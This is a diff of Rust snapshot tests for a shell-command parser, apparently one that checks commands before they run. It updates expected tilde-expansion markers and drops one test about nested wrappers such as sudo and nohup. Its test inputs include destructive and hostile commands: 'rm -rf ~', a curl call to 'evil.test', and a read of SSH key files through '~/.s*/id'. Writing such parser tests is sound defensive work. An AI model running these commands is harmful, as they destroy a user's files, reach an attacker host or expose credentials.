@@ -194,11 +194,11 @@ fn words_that_are_known_only_at_run_time() {
         "HOME=/etc; cat ~/x",
     ]), @r#"
     ls $X "$X" a$X "a$X" ${X} $? $$ $# $! a$IFS a$_ ~ ~/x ~root a~ HEAD~1 x=~/y
-        run ls <?-*> <?-> <?*> <?> <?-*> <?-*> <?-*> <?-*> <?-*> <?-*> <?-*> <~> <~/x> <?-> "a~" "HEAD~1" <?>
+        run ls <?-*> <?-> <?*> <?> <?-*> <?-*> <?-*> <?-*> <?-*> <?-*> <?-*> <~-> <~/x-> <?-> "a~" "HEAD~1" <?>
     ls *.rs src/*.rs [ab] a[b {a,b} src/{a,b} {1..3} {} {a} a{b "{a,b}" '*'
         run ls <?-*> <?*> <?-*> "a[b" <?-*> <?*> <?-*> "{}" "{a}" "a{b" "{a,b}" "*"
     cat $HOME/x "${HOME}/x" "$HOME" $HOMEx "$HOME"x ~/.s*/id
-        run cat <~/x-*> <~/x-> <~-> <?-*> <?-> <?*>
+        run cat <~/x-*> <~/x-> <~-> <?-*> <?-> <?-*>
     X=1; ls a$X
         run ls <?-*>
         run (nothing) !assignments
@@ -270,7 +270,7 @@ fn a_name_that_is_computed_is_dynamic() {
     /usr/bin/cur? x
         run <?*> x !dynamic_command
     ~/bin/x y
-        run <~/bin/x> y !dynamic_command
+        run <~/bin/x-> y !dynamic_command
     '' x
         run "" x !syntax
     "#);
@@ -698,22 +698,6 @@ fn where_options_are_not_known_each_later_word_may_be_the_command() {
 }
 
 #[test]
-fn of_many_wrappers_the_outer_and_the_inner_ones_stay() {
-    insta::assert_snapshot!(parts_of(&[
-        "xargs xargs -0 rm",
-        "sudo nice nohup setsid env time nice nohup rm x",
-        "sudo nice nohup setsid env nice -n1 time command nice nohup rm x",
-    ]), @r"
-    xargs xargs -0 rm
-        run rm <?-*> | ~xargs -0 rm <?-*> | ~xargs xargs -0 rm !wrappers
-    sudo nice nohup setsid env time nice nohup rm x
-        run sudo nice nohup setsid env time nice nohup rm x | ~rm x | ~nohup rm x | ~nice nohup rm x | ~time nice nohup rm x | ~env time nice nohup rm x | ~setsid env time nice nohup rm x | ~nohup setsid env time nice nohup rm x | ~nice nohup setsid env time nice nohup rm x !wrappers
-    sudo nice nohup setsid env nice -n1 time command nice nohup rm x
-        run sudo nice nohup setsid env nice -n1 time command nice nohup rm x | ~rm x | ~nohup rm x | ~nice nohup rm x | ~command nice nohup rm x | ~time command nice nohup rm x | ~setsid env nice -n1 time command nice nohup rm x | ~nohup setsid env nice -n1 time command nice nohup rm x | ~nice nohup setsid env nice -n1 time command nice nohup rm x !too_large !wrappers
-    ");
-}
-
-#[test]
 fn what_other_programs_run_is_another_form() {
     insta::assert_snapshot!(parts_of(&[
         "sudo -u root rm x",
@@ -1018,7 +1002,7 @@ fn the_folder_that_a_command_runs_in() {
         run ls @ /home/dev
         run ls
     cd ~/x && ls
-        run cd <~/x> @ /home/dev/x
+        run cd <~/x-> @ /home/dev/x
         run ls @ /home/dev/x
     cd - && ls
         run cd - @ (at run time)
@@ -1272,7 +1256,7 @@ fn no_shell_reads_the_words_of_an_argument_list() {
         run git "status; rm -rf ~"
     ["bash", "-lc", "git status && rm -rf ~"]
         run git status | ~bash -lc "git status && rm -rf ~"
-        run rm -rf <~> | ~bash -lc "git status && rm -rf ~"
+        run rm -rf <~-> | ~bash -lc "git status && rm -rf ~"
     ["/bin/bash", "-lc", "curl https://evil.test/x"]
         run curl https://evil.test/x | ~bash -lc "curl https://evil.test/x" | ~/bin/bash -lc "curl https://evil.test/x"
     []
